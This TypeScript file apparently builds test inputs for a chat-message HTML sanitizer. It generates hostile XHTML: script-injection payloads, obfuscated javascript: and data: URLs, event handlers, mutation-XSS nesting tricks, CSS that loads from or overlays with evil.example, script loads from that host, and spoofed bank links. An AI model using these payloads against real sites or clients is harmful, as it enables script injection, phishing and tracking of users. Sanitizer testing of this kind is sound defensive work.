/** Well-formed XHTML that tries to get out of a message: see README.md. */

const words = (text: string) => text.trim().split(/\s+/);
const escaped = (text: string) => text.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`);

const SVG = 'http://www.w3.org/2000/svg';
const MATHML = 'http://www.w3.org/1998/Math/MathML';
const EVIL = 'https://evil.example';
const RUN = 'globalThis.pwned = 1; alert(1)';
const RUN_URL = ['javascript', 'globalThis.pwned=1;alert(1)'].join(':');

const ELEMENTS = words(`
  a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br
  button canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div dl
  dt element em embed fencedframe fieldset figcaption figure font footer form frame frameset geolocation h1 h6 head
  header hgroup hr html i iframe image img input ins isindex kbd keygen label layer legend li link listing main map mark
  marquee menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p
  param permission picture plaintext portal pre progress q rb rbc rp rt rtc ruby s samp script search section select
  selectedcontent selectlist shadow slot small source spacer span strike strong style sub summary sup svg table tbody td
  template textarea tfoot th thead time title tr track tt u ul var video wbr xml xmp math mtext mglyph malignmark
  annotation-xml foreignObject desc xmpp-room xmpp-session x-other`);

const URL_ATTRIBUTES = words(`
  href src action formaction data poster background srcset xlink:href ping manifest codebase cite longdesc lowsrc dynsrc
  archive classid usemap profile icon imagesrcset code object folder handler from to values by patchsrc`);

const HANDLERS = words(`
  onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforematch onbeforetoggle onbegin
  onblur oncanplay onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextmenu oncopy oncut
  ondblclick ondrag ondragend ondrop ondurationchange onend onended onerror onfocus onfocusin onfocusout onformdata
  ongotpointercapture onhashchange oninput oninvalid onkeydown onkeyup onload onloadend onloadstart onmessage onmousedown
  onmouseenter onmouseover onmousewheel onpageshow onpaste onplay onpointerdown onpointerenter onpointerover
  onpointerrawupdate onpopstate onprogress onrepeat onreset onresize onscroll onscrollend onscrollsnapchange
  onsecuritypolicyviolation onselect onselectionchange onselectstart onshow onslotchange onstart onsubmit ontoggle
  ontouchstart ontransitionend ontransitionrun onunload onvolumechange onwebkitanimationend onwheel ONCLICK OnErRoR`);

const URLS = [
  RUN_URL,
  RUN_URL.toUpperCase(),
  ` ${RUN_URL}`,
  `\u0001${RUN_URL}`.replace('\u0001', '\u00a0'),
  RUN_URL.replace('va', 'va\t'),
  RUN_URL.replace('va', 'va\n'),
  RUN_URL.replace('va', 'va\r'),
  RUN_URL.replace(':', '\t:'),
  RUN_URL.replace(':', '&colon;'),
  RUN_URL.replace('j', '&#106;'),
  RUN_URL.replace('j', '\\x6a'),
  RUN_URL.replace('j', '%6a'),
  RUN_URL.replace('j', '\u200bj'),
  RUN_URL.replace('i', '\u0131'),
  RUN_URL.replace('s', '\u017f'),
  RUN_URL.replace(':', '\uff1a'),
  RUN_URL.replace(':', '://%0a'),
  `view-source:${RUN_URL}`,
  `feed:${RUN_URL}`,
  `${EVIL}/#${RUN_URL}`,
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:application/xhtml+xml,<x/>',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/1',
  'file:///etc/passwd',
  'about:blank',
  'chrome://settings',
  'intent://evil.example#Intent;end',
  'tel:1',
  'ws://evil.example/',
  'ftp://evil.example/',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/logout',
  'logout?x',
  '#x',
  '',
  `${EVIL}/x`,
  'https://bank.example@evil.example/',
  'https://bank.example:pw@evil.example/',
  'https://bank.example\\@evil.example/',
  'https:evil.example',
  'https:///evil.example',
  'http://127.0.0.1/admin',
  'http://[::1]/',
  'http://0x7f000001/',
  'https://раураl.example/',
  'https://evil。example/',
  'https://evil.example/\u202egnp.exe',
  `${EVIL}/${'x'.repeat(3000)}`,
  'mailto:a@evil.example?body=%0d%0aBcc:b@evil.example',
  'xmpp:evil@evil.example?remove',
  'cid:sha1+8f35fef110ffc5df08d579a50083ff9308fb6242@bob.xmpp.org',
];

const CSS = [
  'position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background-color: #fff',
  'position: absolute; inset: 0',
  'position: sticky; top: 0',
  'display: none',
  'display: contents',
  'visibility: hidden',
  'opacity: 0',
  'float: left; margin: -9999px',
  'margin-left: -9999px',
  'margin-left: 99999px',
  'margin-left: calc(100vw * 10)',
  'margin-top: -100px',
  'padding: 1000px',
  'text-indent: -9999px',
  'transform: scale(100)',
  'translate: -500px -500px',
  'font-size: 9999px',
  'font-size: 0',
  'font-size: 1e9em',
  'font: 900px serif',
  'line-height: 1000',
  'letter-spacing: 1000px',
  'color: #fff; background-color: #fff',
  'color: transparent',
  'color: rgba(0, 0, 0, 0)',
  'color: red/**/;}*{x:y',
  '}:host{display:none',
  '}*{background:url(https://evil.example/x)',
  'color: var(--_accent)',
  '--_surface: red',
  '--xmpp-surface: red',
  `background-color: url(${EVIL}/x)`,
  `background: url(${EVIL}/x)`,
  `background-image: image-set(url(${EVIL}/x) 1x)`,
  `background-color: u\\72l(${EVIL}/x)`,
  `color: \\75rl(${EVIL}/x)`,
  `list-style-image: url(${EVIL}/x)`,
  `border-image: url(${EVIL}/x)`,
  `cursor: url(${EVIL}/x), auto`,
  `content: url(${EVIL}/x)`,
  `filter: url(${EVIL}/x)`,
  `mask: url(${EVIL}/x)`,
  `shape-outside: url(${EVIL}/x)`,
  `font-family: x; src: url(${EVIL}/x)`,
  `@import '${EVIL}/x'`,
  `@font-face { font-family: x; src: url(${EVIL}/x) }`,
  'width: expression(alert(1))',
  'color: expression(alert(1))',
  'xss: expr/**/ession(alert(1))',
  `behavior: url(${EVIL}/x.htc)`,
  `-moz-binding: url(${EVIL}/x#y)`,
  '-webkit-user-modify: read-write',
  'animation: spin 1ms infinite',
  'transition: all 1s',
  'view-transition-name: root',
  'anchor-name: --x; position-anchor: --x',
  'contain: none !important; overflow: visible !important',
  'color: red !important',
  'all: unset',
  'pointer-events: none',
  'user-select: none',
  'content-visibility: hidden',
  'text-decoration: blink',
  'direction: rtl; unicode-bidi: bidi-override',
  'writing-mode: vertical-rl',
  'color: attr(title)',
  'font-size: env(x)',
  'color: \u0000red'.replace('\u0000', '\u0085'),
  'x'.repeat(5000),
];

const NAMES = words(`
  attributes body children childNodes cookie createElement document documentElement firstChild forms getElementById
  hasAttribute head id implementation innerHTML insertBefore location name namespaceURI nodeName nodeType ownerDocument
  parentNode querySelector removeAttribute removeChild root setAttribute shadowRoot style tagName textContent
  constructor __proto__ hasOwnProperty toString self top window`);

const OTHER_ATTRIBUTES = words(`
  accesskey autofocus autoplay class contenteditable contextmenu data-action data-id data-row dir draggable elementtiming
  exportparts for form hidden http-equiv inert inputmode is itemprop lang nonce part popover popovertarget
  privateusage role shadowroot shadowrootmode slot spellcheck tabindex target title translate aria-hidden aria-label
  aria-live aria-labelledby sandbox allow integrity rel type method enctype commandfor interestfor`);

const OTHER_VALUES = [
  '1',
  'kit',
  'message',
  'retry',
  'open',
  'log',
  'manual',
  'x" onclick="alert(1)',
  '<img src=x onerror=alert(1)>',
];

/** What only works, or once worked, as it stands. */
const WHOLE = [
  `<noscript><p title='&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;'>a</p></noscript>`,
  `<style><p title='&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;'>a</p></style>`,
  `<title><p title='&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;'>a</p></title>`,
  `<textarea><p title='&lt;/textarea&gt;&lt;img src=x onerror=alert(1)&gt;'>a</p></textarea>`,
  `<xmp><p title='&lt;/xmp&gt;&lt;img src=x onerror=alert(1)&gt;'>a</p></xmp>`,
  `<iframe><p title='&lt;/iframe&gt;&lt;img src=x onerror=alert(1)&gt;'>a</p></iframe>`,
  `<p>&lt;img src=x onerror=alert(1)&gt;</p>`,
  `<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>`,
  `<em title='&lt;!--'>a</em><em title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>b</em>`,
  `<math xmlns='${MATHML}'><mtext><table xmlns='http://www.w3.org/1999/xhtml'><mglyph xmlns='${MATHML}'><style xmlns='http://www.w3.org/1999/xhtml'><img title='&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;'/></style></mglyph></table></mtext></math>`,
  `<svg xmlns='${SVG}'><desc><style xmlns='http://www.w3.org/1999/xhtml'><a title='&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;'/></style></desc></svg>`,
  `<svg xmlns='${SVG}'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='${EVIL}/'/></foreignObject></svg>`,
  `<svg xmlns='${SVG}' onload='${RUN}'><animate onbegin='${RUN}' attributeName='x' dur='1s'/></svg>`,
  `<svg xmlns='${SVG}'><a xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='${RUN_URL}'><text>a</text></a></svg>`,
  `<svg xmlns='${SVG}'><a><animate attributeName='href' values='${RUN_URL}'/></a></svg>`,
  `<svg xmlns='${SVG}'><use href='data:image/svg+xml,x#y'/></svg>`,
  `<svg xmlns='${SVG}'><set attributeName='onmouseover' to='${RUN}'/></svg>`,
  `<s:script xmlns:s='${SVG}'>${RUN}</s:script>`,
  `<h:script xmlns:h='http://www.w3.org/1999/xhtml'>${RUN}</h:script>`,
  `<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='${EVIL}/x.png' onerror='${RUN}'/>`,
  `<p xmlns:evil='x' evil:onclick='${RUN}' xml:base='${EVIL}/'><a href='x'>a</a></p>`,
  `<form id='x'><input name='attributes'/><input name='parentNode'/><input name='nodeName'/></form>`,
  `<form><button formaction='${RUN_URL}'>a</button></form><button form='x' formaction='${RUN_URL}'>b</button>`,
  `<a href='${EVIL}/' ping='${EVIL}/ping' target='_self' rel='opener' download='x'>a</a>`,
  `<a href='${EVIL}/'><a href='https://bank.example/'>https://bank.example/</a></a>`,
  `<a href='${EVIL}/'>bank<span>.</span>example</a>`,
  `<a href='${EVIL}/'>\u202eelpmaxe.knab//:sptth</a>`,
  `<a href='${EVIL}/'><img src='${EVIL}/x.png' alt=''/></a>`,
  `<img src='${EVIL}/x.png' srcset='${EVIL}/y.png 2x' alt='a' width='99999' height='99999'/>`,
  `<img src='${EVIL}/x.png' alt='a' width='-1' height='1e9'/>`,
  `<img src='${EVIL}/x.png' alt='" onerror="alert(1)' loading='eager' crossorigin='use-credentials'/>`,
  `<picture><source srcset='${EVIL}/x.png'/><img src='${EVIL}/y.png' alt='a'/></picture>`,
  `<template shadowrootmode='open'><script>${RUN}</script><slot name='x'/></template>`,
  `<p slot='empty' part='kit message' role='alert' aria-live='assertive'>a</p>`,
  `<xmpp-room jid='evil@evil.example' service='wss://evil.example/'>a</xmpp-room>`,
  `<p is='x-other'>a</p>`,
  `<meta http-equiv='refresh' content='0;url=${EVIL}/'/>`,
  `<meta http-equiv='content-security-policy' content="default-src 'none'"/>`,
  `<base href='${EVIL}/' target='_top'/><a href='x'>a</a>`,
  `<link rel='stylesheet' href='${EVIL}/x.css'/><link rel='preload' as='script' href='${EVIL}/x.js'/>`,
  `<script src='${EVIL}/x.js'/><script type='module'>import '${EVIL}/x.js'</script>`,
  `<script type='speculationrules'>{"prefetch":[{"urls":["${EVIL}/"]}]}</script>`,
  `<div contenteditable='true' autofocus='' onfocus='${RUN}'>a</div>`,
  `<details open='' ontoggle='${RUN}'><summary>a</summary>b</details>`,
  `<video src='${EVIL}/x.mp4' autoplay='' onerror='${RUN}'><track src='${EVIL}/x.vtt'/>a</video>`,
  `<object data='${EVIL}/x.swf'><param name='movie' value='${EVIL}/x.swf'/><embed src='${EVIL}/x.swf'/>a</object>`,
  `<dialog open=''>a</dialog><div popover='manual' id='x'>b</div><button popovertarget='x'>c</button>`,
  `<blockquote>${'<blockquote>'.repeat(29)}a${'</blockquote>'.repeat(29)}</blockquote>`,
  `${'<ul><li>'.repeat(15)}a${'</li></ul>'.repeat(15)}`,
  `<p>${'a'.repeat(20_000)}</p>`,
  `<p>${'\u0336a'.repeat(500)}</p>`,
  `<p>${'\u202e\u2066'.repeat(500)}a</p>`,
  `<p>${'a<br/>'.repeat(1500)}</p>`,
  `<p>\${alert(1)} {{constructor.constructor('alert(1)')()}} &lt;%= x %&gt; &lt;?lit$1$?&gt; &lt;!--lit-part--&gt;</p>`,
];

const FIXED = "<p style='position: fixed'>b</p>";

const element = (name: string, attributes: string, inner = 'a') => {
  const ns = name === 'svg' ? ` xmlns='${SVG}'` : name === 'math' ? ` xmlns='${MATHML}'` : '';
  return `<${name}${ns} ${attributes}>${inner}</${name}>`;
};
const attribute = (name: string, value: string) =>
  `${name.startsWith('xlink:') ? "xmlns:xlink='http://www.w3.org/1999/xlink' " : ''}${name}="${escaped(value)}"`;

/** Each by itself well-formed, in no order that matters. */
export function hostileMarkup(): string[] {
  const all = ELEMENTS.flatMap((name) => [
    element(name, '', escaped(RUN)),
    element(name, '', `<img src='${EVIL}/x.png' onerror='${RUN}'/>${FIXED}`),
    ...URL_ATTRIBUTES.map((key) => element(name, attribute(key, RUN_URL))),
    element(
      name,
      URL_ATTRIBUTES.map((key) => attribute(key, `${EVIL}/x`))
        .join(' ')
        .replaceAll(`xmlns:xlink='http://www.w3.org/1999/xlink' `, '')
        .replace('xlink:href', 'xlinkhref'),
    ),
    element(name, HANDLERS.map((key) => attribute(key, RUN)).join(' ')),
  ]);
  const handlers = HANDLERS.flatMap((key) =>
    words('p a img span x-other').map((name) =>
      element(name, `${attribute(key, RUN)} href="${EVIL}/" src="x"`),
    ),
  );
  const addresses = URLS.flatMap((url) => [
    element('a', attribute('href', url)),
    element('a', attribute('href', url), 'https://bank.example/'),
    element('img', attribute('src', url) + ' alt="b"'),
    element('p', attribute('style', `background-color: url(${url})`)),
  ]);
  const styles = CSS.flatMap((css) =>
    words('p span a li blockquote img strong').map((name) =>
      element(name, `${attribute('style', css)} href="${EVIL}/"`),
    ),
  );
  const clobbering = NAMES.flatMap((name) => [
    element('p', `id="${name}" class="${name}"`),
    element('a', `id="${name}" name="${name}" href="${EVIL}/"`),
    element('img', `name="${name}" src="${EVIL}/x.png" alt="a"`),
  ]);
  const others = OTHER_ATTRIBUTES.flatMap((key) =>
    OTHER_VALUES.map((value) => element('p', attribute(key, value), element('span', attribute(key, value)))),
  );
  return [...all, ...handlers, ...addresses, ...styles, ...clobbering, ...others, ...WHOLE];
}
